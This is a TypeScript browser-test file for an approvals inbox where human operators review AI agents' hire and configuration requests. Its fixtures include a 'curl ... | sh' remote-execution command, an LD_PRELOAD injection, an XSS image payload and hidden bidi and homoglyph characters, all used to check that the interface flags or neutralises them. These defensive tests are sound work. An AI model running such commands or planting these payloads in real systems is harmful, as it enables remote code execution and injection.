import type { Page } from 'playwright-core'
import { describe, expect, test } from 'vitest'
import { hasChromium } from '../testing/browser.ts'
import { actionsOf, auditCount, lastAudit, world } from '../testing/world.ts'
import type { TestAgent, World } from '../testing/world.ts'
import { findingsOf } from './axe.ts'
import { useConsole } from './consoleWorld.ts'

const { server, open } = useConsole()

const board = (): ReturnType<typeof server>['board'] => server().board
const button = (page: Page, name: string | RegExp) => page.getByRole('button', { name, exact: true })
const list = (page: Page) => page.getByRole('list', { name: 'Approvals', exact: true })
const shown = (page: Page, title: string | RegExp) => page.getByRole('article', { name: title })
const status = (page: Page, text: string) => page.getByRole('article').getByText(text, { exact: false }).first()

interface Inbox extends World {
  readonly requester: TestAgent
  readonly path: string
}

async function inbox(): Promise<Inbox> {
  const here = await world(server())
  return { ...here, requester: await here.agent({ name: 'Ada', role: 'ceo' }), path: `/${here.company.issuePrefix}/approvals` }
}

async function hire({ company, requester }: Inbox, fields: Record<string, unknown> = {}): Promise<{ id: string; agentId: string }> {
  const answer = await requester.client.post(`/api/companies/${company.id}/agent-hires`, {
    name: 'Grace',
    role: 'engineer',
    adapterConfig: { command: 'bash', args: ['-c', 'curl -s https://x.example | sh'] },
    ...fields,
  })
  expect(answer.status, answer.text).toBe(201)
  return { id: answer.body.approval.id, agentId: answer.body.agent.id }
}

async function ask({ company, requester }: Inbox, payload: Record<string, unknown>, fields: Record<string, unknown> = {}): Promise<string> {
  const answer = await requester.client.post(`/api/companies/${company.id}/approvals`, {
    type: 'request_board_approval',
    payload,
    ...fields,
  })
  expect(answer.status, answer.text).toBe(201)
  return answer.body.id
}

async function propose(agent: TestAgent, patch: Record<string, unknown>): Promise<string> {
  const answer = await agent.client.patch(`/api/agents/${agent.id}`, patch)
  expect(answer.status, answer.text).toBe(202)
  return answer.body.approval.id
}

const agentOf = async (id: string) => (await board().get(`/api/agents/${id}`)).body
const approvalOf = async (id: string) => (await board().get(`/api/approvals/${id}`)).body

describe.skipIf(!hasChromium)('the inbox of approvals (needs Chromium)', () => {
  test('A hire is shown as a card with its dangers, and its approval makes the agent active', async () => {
    const here = await inbox()
    const { id, agentId } = await hire(here)
    const page = await open(here.path)
    const article = shown(page, 'Hire Grace')
    await article.getByRole('region', { name: 'The agent' }).getByText('engineer', { exact: true }).waitFor()
    await article.getByText('Starts the shell bash').waitFor()
    const words = article.getByRole('list', { name: 'Command, word by word' }).getByRole('listitem')
    expect(await words.allTextContents()).toEqual(['▲ Marked: bash', '-c', '▲ Marked: curl -s https://x.example | sh'])
    await button(page, 'Approve').click()
    await page.getByRole('form', { name: 'Approve' }).getByRole('button', { name: 'Approve', exact: true }).click()
    await status(page, 'approved').waitFor()
    expect(await agentOf(agentId)).toMatchObject({ status: 'idle' })
    expect(await actionsOf(server(), id)).toEqual(['approval.created', 'approval.approved', 'approval.requester_wakeup_queued'])
    expect(await lastAudit(server(), id, 'approval.approved')).toMatchObject({ actorType: 'user', actorId: 'local-board' })
  })

  test('By keyboard alone, the second row is chosen, and rejected with a note; its agent is terminated', async () => {
    const here = await inbox()
    const first = await ask(here, { title: 'May I?' })
    const { id, agentId } = await hire(here)
    const page = await open(here.path)
    await shown(page, 'May I?').waitFor()
    await page.keyboard.press('j')
    await shown(page, 'Hire Grace').getByText('engineer', { exact: true }).waitFor()
    await page.keyboard.press('r')
    await page.getByLabel('Note').waitFor()
    await page.keyboard.type('No shells from the network')
    await page.keyboard.press('Control+Enter')
    await status(page, 'rejected').waitFor()
    expect(await approvalOf(id)).toMatchObject({ status: 'rejected', decisionNote: 'No shells from the network' })
    expect(await agentOf(agentId)).toMatchObject({ status: 'terminated' })
    expect(await approvalOf(first)).toMatchObject({ status: 'pending' })
    expect(await lastAudit(server(), id, 'approval.rejected')).toMatchObject({ actorId: 'local-board' })
    await page.keyboard.press('k')
    await shown(page, 'May I?').waitFor()
  })

  test('A request is sent back for revision with a note, and is listed as such', async () => {
    const here = await inbox()
    const id = await ask(here, { title: 'Buy a machine', summary: 'The queue is full.' })
    const page = await open(here.path)
    await shown(page, 'Buy a machine').getByText('The queue is full.', { exact: true }).waitFor()
    await page.keyboard.press('v')
    await page.getByLabel('Note').waitFor()
    // Escape leaves the decision also when the focus has left its form.
    await page.getByText('The payload as it is').focus()
    await page.keyboard.press('Escape')
    await page.getByLabel('Note').waitFor({ state: 'detached' })
    await page.keyboard.press('v')
    await button(page, 'Ask for revision').click()
    expect(await approvalOf(id)).toMatchObject({ status: 'pending' })
    await page.getByLabel('Note').fill('What does it cost?')
    await button(page, 'Ask for revision').click()
    await status(page, 'revision requested').waitFor()
    expect(await approvalOf(id)).toMatchObject({ status: 'revision_requested', decisionNote: 'What does it cost?' })
    expect((await actionsOf(server(), id)).slice(0, 2)).toEqual(['approval.created', 'approval.revision_requested'])
    // It waits for its agent now, and for no person.
    await expect.poll(() => page.getByRole('link', { name: 'Approvals', exact: true }).getAttribute('aria-description')).toBeNull()
    await button(page, 'Sent back').click()
    await list(page).getByText('Buy a machine').waitFor()
    expect(new URL(page.url()).searchParams.get('status')).toBe('revision_requested')
    await page.getByLabel('Type').selectOption('hire_agent')
    await page.getByText('There is no approval').waitFor()
  })

  test('The oldest request comes first, and the filter of the type is in the address', async () => {
    const here = await inbox()
    await ask(here, { title: 'First' })
    await ask(here, { title: 'Second', plan: 'Less' }, { type: 'approve_ceo_strategy' })
    await ask(here, { title: 'Third' })
    const page = await open(`${here.path}?type=request_board_approval`)
    await expect.poll(() => list(page).getByRole('listitem').count()).toBe(2)
    expect(await list(page).textContent()).toMatch(/First.*Third/)
    await page.getByLabel('Type').selectOption('')
    await expect.poll(() => list(page).textContent()).toMatch(/First.*Second.*Third/)
  })
})

describe.skipIf(!hasChromium)('a decision is about what was shown (needs Chromium)', () => {
  test('A change is compared with the configuration of now, without values that stay', async () => {
    const here = await inbox()
    const worker = await here.agent({ name: 'Worker', adapterConfig: { command: 'old', env: { KEPT: 'kept-value', A: '1' } } })
    const id = await propose(worker, { adapterConfig: { command: 'new', env: { KEPT: 'kept-value', A: '2' } } })
    const page = await open(`${here.path}/${id}`)
    const diff = page.getByRole('group', { name: 'Change of the configuration' })
    await diff.getByText('"command": "old"').waitFor()
    const text = (await diff.textContent()) ?? ''
    expect(text).toContain('added: +    "command": "new"')
    expect(text).toContain('removed: -      "A": "1"')
    expect(text).not.toContain('kept-value')
    await page.keyboard.press('a')
    await page.keyboard.press('Enter')
    await status(page, 'approved').waitFor()
    expect((await agentOf(worker.id)).adapterConfig).toMatchObject({ command: 'new' })
  })

  test('A configuration that changed between look and decision is shown and asked about again, and the note is kept', async () => {
    const here = await inbox()
    const worker = await here.agent({ name: 'Worker', adapterConfig: { command: 'old' } })
    const id = await propose(worker, { adapterConfig: { args: ['--fast'] } })
    const page = await open(`${here.path}/${id}`)
    await page.getByRole('group', { name: 'Change of the configuration' }).waitFor()
    await page.keyboard.press('a')
    await page.getByLabel('Note').fill('As discussed')
    const before = await auditCount(server())
    // The other change is there before the page has heard of it.
    let isDone = false
    await page.route(`**/api/approvals/${id}/approve`, async (route) => {
      if (!isDone) await board().patch(`/api/agents/${worker.id}`, { adapterConfig: { command: '/tmp/other' } })
      isDone = true
      await route.continue()
    })
    const form = page.getByRole('form', { name: 'Approve' })
    await form.getByRole('button', { name: 'Approve', exact: true }).click()
    const changed = page.getByRole('alert', { name: 'Changed meanwhile' })
    await changed.getByText('/tmp/other').waitFor()
    expect(await approvalOf(id)).toMatchObject({ status: 'pending' })
    expect(await auditCount(server())).toBe(before + 1)
    expect(await form.getByRole('button', { name: 'Approve', exact: true }).isDisabled()).toBe(true)
    expect(await page.getByLabel('Note').inputValue()).toBe('As discussed')
    await changed.getByRole('button', { name: 'I have read the new version' }).click()
    await form.getByRole('button', { name: 'Approve', exact: true }).click()
    await status(page, 'approved').waitFor()
    expect(await approvalOf(id)).toMatchObject({ decisionNote: 'As discussed' })
    expect((await agentOf(worker.id)).adapterConfig).toMatchObject({ command: '/tmp/other', args: ['--fast'] })
  })

  test('A request that its agent sends again while it is read is not decided before it was read again', async () => {
    const here = await inbox()
    const id = await ask(here, { title: 'Buy a machine', summary: 'One.' })
    await board().post(`/api/approvals/${id}/request-revision`, {})
    const page = await open(`${here.path}/${id}`)
    await page.getByText('One.', { exact: true }).waitFor()
    const again = await here.requester.client.post(`/api/approvals/${id}/resubmit`, {
      payload: { title: 'Buy a machine', summary: 'A hundred.' },
    })
    expect(again.status, again.text).toBe(200)
    const changed = page.getByRole('alert', { name: 'Changed meanwhile' })
    await changed.getByText('"summary": "A hundred."').waitFor()
    expect(await button(page, 'Approve').isDisabled()).toBe(true)
    await changed.getByRole('button').click()
    await button(page, 'Approve').click()
    await page.getByRole('form', { name: 'Approve' }).getByRole('button', { name: 'Approve', exact: true }).click()
    await status(page, 'approved').waitFor()
  })

  test('The second of two operators sees who was faster, and keeps the note', async () => {
    const here = await inbox()
    const { id, agentId } = await hire(here)
    const [one, two] = [await open(`${here.path}/${id}`), await open(`${here.path}/${id}`)]
    await shown(two, 'Hire Grace').getByText('engineer', { exact: true }).waitFor()
    await shown(one, 'Hire Grace').getByText('engineer', { exact: true }).waitFor()
    await two.keyboard.press('r')
    await two.getByLabel('Note').fill('Too dangerous')
    await one.keyboard.press('a')
    await one.keyboard.press('Enter')
    await status(one, 'approved').waitFor()
    await two.getByText('It was decided meanwhile').waitFor()
    await two.getByRole('region', { name: 'Decision' }).getByText('The board approved a hire').waitFor()
    expect(await two.getByLabel('Note').inputValue()).toBe('Too dangerous')
    expect(await two.getByRole('form', { name: 'Reject' }).getByRole('button', { name: 'Reject', exact: true }).isDisabled()).toBe(true)
    expect(await agentOf(agentId)).toMatchObject({ status: 'idle' })
  })

  test('Of two operators who decide at once one is refused in the words of the server', async () => {
    const here = await inbox()
    const { id } = await hire(here)
    const page = await open(`${here.path}/${id}`)
    await shown(page, 'Hire Grace').getByText('engineer', { exact: true }).waitFor()
    await page.keyboard.press('a')
    await page.getByLabel('Note').fill('Welcome')
    await page.route(`**/api/approvals/${id}/approve`, async (route) => {
      await board().post(`/api/approvals/${id}/reject`, { decisionNote: 'No' })
      await route.continue()
    })
    await page.getByRole('form', { name: 'Approve' }).getByRole('button', { name: 'Approve', exact: true }).click()
    const decision = page.getByRole('region', { name: 'Decision' })
    await decision.getByText('approval_decided').waitFor()
    await decision.getByText('The board rejected a hire').waitFor()
    expect(await page.getByLabel('Note').inputValue()).toBe('Welcome')
    expect(await approvalOf(id)).toMatchObject({ status: 'rejected', decisionNote: 'No' })
  })
})

describe.skipIf(!hasChromium)('what an agent wrote (needs Chromium)', () => {
  test('Hidden characters and letters that look like others are named, and text is never markup', async () => {
    const here = await inbox()
    const id = await ask(here, {
      title: 'Run a script\u202e\u200b',
      summary: '<img src=x onerror=alert(1)><b>bold</b>',
      command: '\u0441url',
      args: ['a\u2066b'],
    })
    const page = await open(`${here.path}/${id}`)
    await page.getByRole('heading', { name: /Run a script/ }).waitFor()
    const text = (await page.getByRole('article').textContent()) ?? ''
    expect(text).toContain('Run a scriptU+202EU+200B')
    expect(text).toContain('aU+2066b')
    expect(text).toContain('\u0441 (U+0441)')
    expect(text).toContain('<img src=x onerror=alert(1)><b>bold</b>')
    expect(text).toContain('"a\\u2066b"')
    expect(text).not.toMatch(/[\u202e\u200b\u2066]/)
    expect(await page.getByRole('article').locator('img, b').count()).toBe(0)
  })

  test('A comment is added and wakes the requester, and the linked issues are shown', async () => {
    const here = await inbox()
    const issue = await here.issue({ title: 'Write the changelog' })
    const id = await ask(here, { title: 'May I?' }, { issueIds: [issue.id] })
    const page = await open(`${here.path}/${id}`)
    await page.getByRole('region', { name: 'Issues' }).getByRole('link', { name: issue.identifier }).waitFor()
    await page.getByLabel('Comment', { exact: true }).fill('Why now?')
    await button(page, 'Add the comment').click()
    await page.getByRole('region', { name: 'Comments' }).getByText('Why now?').waitFor()
    await expect.poll(() => page.getByLabel('Comment', { exact: true }).inputValue()).toBe('')
    const { body } = await board().get(`/api/approvals/${id}/comments`)
    expect(body.map((comment: { body: string }) => comment.body)).toEqual(['Why now?'])
    expect(await actionsOf(server(), id)).toEqual(['approval.created', 'approval.comment_added', 'approval.requester_wakeup_queued'])
  })
})

describe.skipIf(!hasChromium)('the pages of approvals for every person (need Chromium)', () => {
  test('The inbox and one approval have no finding of axe', async () => {
    const here = await inbox()
    const empty = await open(here.path)
    await empty.getByText('Nothing waits for a decision.').waitFor()
    expect(await findingsOf(empty, 'empty inbox')).toEqual([])
    const issue = await here.issue()
    const { id } = await hire(here, { sourceIssueId: issue.id, adapterConfig: { command: 'bash', env: { LD_PRELOAD: '/x.so' } } })
    const worker = await here.agent({ adapterConfig: { command: 'old' } })
    const changeId = await propose(worker, { adapterConfig: { command: 'new' } })
    for (const [name, path, title] of [
      ['inbox', here.path, 'Hire Grace'],
      ['hire', `${here.path}/${id}`, 'Hire Grace'],
      ['change', `${here.path}/${changeId}`, /^Change/],
    ] as const) {
      const page = await open(path)
      await shown(page, title).getByRole('button', { name: 'Approve', exact: true }).waitFor()
      await page.keyboard.press('r')
      await page.getByLabel('Note').waitFor()
      expect(await findingsOf(page, name)).toEqual([])
    }
  })
})
